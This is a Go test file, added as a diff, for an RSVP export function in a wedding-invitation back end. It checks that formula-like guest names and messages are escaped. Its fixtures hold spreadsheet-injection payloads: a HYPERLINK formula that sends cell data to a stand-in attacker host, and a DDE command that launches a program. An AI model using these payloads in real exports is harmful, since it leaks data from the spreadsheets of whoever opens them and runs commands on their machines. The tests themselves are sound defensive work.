@@ -0,0 +1,55 @@
+package handlers
+
+import (
+	"reflect"
+	"testing"
+	"time"
+
+	"github.com/proxima-labs/wedding-invitation-back-end/src/model"
+)
+
+func TestRsvpExportRowEscapesFormulas(t *testing.T) {
+	at := time.Date(2026, 10, 1, 9, 30, 0, 0, time.UTC)
+
+	tests := []struct {
+		name    string
+		guest   string
+		message string
+		want    []string
+	}{
+		{
+			name:    "hostile name",
+			guest:   `=HYPERLINK("https://evil.example/?d="&A2,"Pak Hendra")`,
+			message: "Selamat!",
+			want:    []string{`'=HYPERLINK("https://evil.example/?d="&A2,"Pak Hendra")`, "attending", "2", "Selamat!", "2026-10-01T09:30:00Z", "2026-10-01T09:30:00Z"},
+		},
+		{
+			name:    "hostile message",
+			guest:   "Bu Sari",
+			message: "@SUM(1+1)*cmd|' /C calc'!A0",
+			want:    []string{"Bu Sari", "attending", "2", "'@SUM(1+1)*cmd|' /C calc'!A0", "2026-10-01T09:30:00Z", "2026-10-01T09:30:00Z"},
+		},
+		{
+			name:    "tab and carriage return",
+			guest:   "\t=1+1",
+			message: "\r-1",
+			want:    []string{"'\t=1+1", "attending", "2", "'\r-1", "2026-10-01T09:30:00Z", "2026-10-01T09:30:00Z"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := RsvpExportRow(model.RSVP{
+				GuestName:   tt.guest,
+				Attendance:  "attending",
+				GuestsCount: 2,
+				Message:     tt.message,
+				CreatedAt:   at,
+				UpdatedAt:   at,
+			})
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Fatalf("RsvpExportRow = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}